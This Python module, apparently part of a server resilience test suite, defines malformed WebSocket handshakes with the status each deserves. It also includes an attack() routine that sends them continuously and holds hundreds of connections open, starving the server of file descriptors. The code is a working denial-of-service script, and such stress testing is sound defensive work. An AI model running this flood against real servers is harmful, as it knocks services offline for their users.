"""Handshakes of WebSockets that no library can parse, on connections that are never closed.

They need no key. A server that waits for more of them, or forgets them, has no descriptor left for
others after a while.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from itertools import cycle

from attacks.slow_bodies import connect

FLAGS: tuple[str, ...] = ()
_PAUSE_S = 0.02
_MAX_OPEN = 600  # descriptors of the attacker
_LARGE = 9000  # bytes: more than a line of a handshake may have
_KEY = b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
_WANTED = b"Host: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" + _KEY
_PATH = b"/v1/realtime"


def _make(line: bytes = b"GET " + _PATH, headers: bytes = b"") -> bytes:
    return line + b" HTTP/1.1\r\n" + _WANTED + headers + b"\r\n"


# Name -> the status that it deserves, and its bytes.
HANDSHAKES: dict[str, tuple[int, bytes]] = {
    "another method": (400, _make(b"POST " + _PATH)),
    "a body that does not come": (400, _make(headers=b"Content-Length: 5\r\n")),
    "a body of no length": (400, _make(headers=b"Content-Length: 0\r\n")),
    "another method with a body": (400, _make(b"POST " + _PATH, b"Content-Length: 5\r\n")),
    "chunks that do not come": (400, _make(headers=b"Transfer-Encoding: chunked\r\n")),
    "a long header": (431, _make(headers=b"x-long: " + b"a" * _LARGE + b"\r\n")),
    "a long query": (431, _make(b"GET " + _PATH + b"?model=" + b"a" * _LARGE)),
    "many headers": (431, _make(headers=b"x-many: 1\r\n" * 200)),
    "a protocol that is not ASCII": (400, _make(headers=b"Sec-WebSocket-Protocol: \xff\r\n")),
    "an address that is not ASCII": (400, _make(b"GET " + _PATH + b"?model=\xc3\xa4")),
}


@contextmanager
def attack(url: str) -> Iterator[None]:
    """Send bad handshakes of all kinds, fifty a second, and close no connection."""
    is_over = threading.Event()
    connections: list[socket.socket] = []

    def run() -> None:
        for _, content in cycle(HANDSHAKES.values()):
            if is_over.wait(_PAUSE_S):
                return
            with suppress(OSError):
                connections.append(connect(url, content))
            if len(connections) > _MAX_OPEN:
                connections.pop(0).close()

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield
    finally:
        is_over.set()
        thread.join()
        for connection in connections:
            connection.close()
